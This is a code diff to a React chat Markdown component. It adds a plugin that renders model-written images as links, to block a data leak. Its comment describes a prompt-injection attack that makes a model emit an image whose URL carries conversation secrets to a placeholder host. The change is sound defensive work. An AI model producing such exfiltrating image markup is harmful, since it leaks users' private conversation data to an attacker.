@@ -4,9 +4,39 @@ import { memo, useState, type ComponentProps } from "react";
 import ReactMarkdown, { type Components } from "react-markdown";
 import remarkGfm from "remark-gfm";
 import rehypeSanitize from "rehype-sanitize";
+import type { Element, ElementContent, Root, Text } from "hast";
 
 // Model output is untrusted: react-markdown never renders raw HTML (no rehype-raw), and the
 // sanitizer strips anything dangerous that Markdown itself could produce (javascript: links, …).
+
+/**
+ * An image in a reply would be fetched by the browser as soon as it is shown, no click needed,
+ * from whatever URL the model wrote: a prompt injection makes it `![](https://evil/?q=<secrets>)`
+ * and the conversation leaks. Images are rendered as links instead (their alt text and URL);
+ * following one is the reader's choice. Inside a link, where a link cannot go, as plain text.
+ * The page's CSP (img-src 'self') is the second line of defence.
+ */
+export function rehypeImagesAsLinks() {
+  return (tree: Root) => {
+    const walk = (node: Root | Element, inLink: boolean) => {
+      node.children = node.children.map((child) => {
+        if (child.type !== "element") return child;
+        if (child.tagName === "img") return imageAsLink(child, inLink);
+        walk(child, inLink || child.tagName === "a");
+        return child;
+      }) as typeof node.children;
+    };
+    walk(tree, false);
+  };
+}
+
+function imageAsLink(img: Element, inLink: boolean): ElementContent {
+  const src = typeof img.properties.src === "string" ? img.properties.src : "";
+  const alt = typeof img.properties.alt === "string" ? img.properties.alt.trim() : "";
+  const label: Text = { type: "text", value: `Image: ${alt || "untitled"}${src ? ` (${src})` : ""}` };
+  if (!src || inLink) return label;
+  return { type: "element", tagName: "a", properties: { href: src }, children: [label] };
+}
 
 function CodeBlock(props: ComponentProps<"pre">) {
   const [copied, setCopied] = useState(false);
@@ -52,7 +82,7 @@ const components: Components = {
 export const Markdown = memo(function Markdown({ text }: { text: string }) {
   return (
     <div className="prose-chat">
-      <ReactMarkdown remarkPlugins={[remarkGfm]} rehypePlugins={[rehypeSanitize]} components={components}>
+      <ReactMarkdown remarkPlugins={[remarkGfm]} rehypePlugins={[rehypeSanitize, rehypeImagesAsLinks]} components={components}>
         {text}
       </ReactMarkdown>
     </div>
